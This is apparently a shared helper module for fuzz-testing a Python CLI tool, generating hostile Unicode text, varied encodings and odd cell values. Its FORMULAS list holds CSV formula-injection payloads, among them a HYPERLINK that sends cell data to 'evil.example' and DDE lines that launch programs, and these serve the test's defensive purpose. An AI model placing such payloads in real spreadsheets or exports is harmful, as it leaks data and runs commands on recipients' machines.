"""What the fuzz tests share: hostile text and bytes, the CLI run, the verdict on each run."""

from __future__ import annotations

from pathlib import Path

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from sobriety.cli.main import app

runner = CliRunner()

FUZZ = settings(
    deadline=None,
    derandomize=True,  # the same examples on every run and machine
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

#: Characters that break naive code: NUL and controls, bidi overrides and isolates,
#: combining marks, zero-width joiners, BOM, line and paragraph separators, astral
#: letters, quotes and delimiters, and the first characters of spreadsheet formulas.
ODD = [
    "\x00",
    "\x01",
    "\x1b",
    "\x7f",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200f",
    "\u0301",
    "\u0327",
    "\u20dd",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "\u2029",
    "\ufffd",
    "𝔘",
    "😀",
    '"',
    "'",
    ",",
    ";",
    "\t",
    "\r",
    "\n",
    "=",
    "+",
    "-",
    "@",
]
HOSTILE_TEXT = st.text(
    alphabet=st.one_of(st.sampled_from(ODD), st.characters(blacklist_categories=("Cs",))),
    max_size=60,
)
FORMULAS = st.sampled_from(
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "=cmd|'/c notepad'!'A1'",
    ]
)
CELL = st.one_of(HOSTILE_TEXT, FORMULAS, st.integers(), st.floats(), st.just(""))
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-32"])


def encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


def cli(*args: str, env: dict[str, str] | None = None):
    return runner.invoke(app, list(args), env=env)


def assert_clean_end(result, what: str) -> None:
    """Exit 0 (done) or 1 (a clear error): never a traceback, never another exception."""
    exc = result.exception
    if exc is not None and not isinstance(exc, SystemExit):
        import traceback

        trace = "".join(traceback.format_exception(exc))
        raise AssertionError(f"{what}: {type(exc).__name__} escaped:\n{trace}")
    assert result.exit_code in (0, 1), (what, result.exit_code, result.output)
    assert "Traceback" not in result.output, (what, result.output)
    if result.exit_code == 1:
        message = result.stderr.strip()
        assert message, (what, "an error without a message")


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
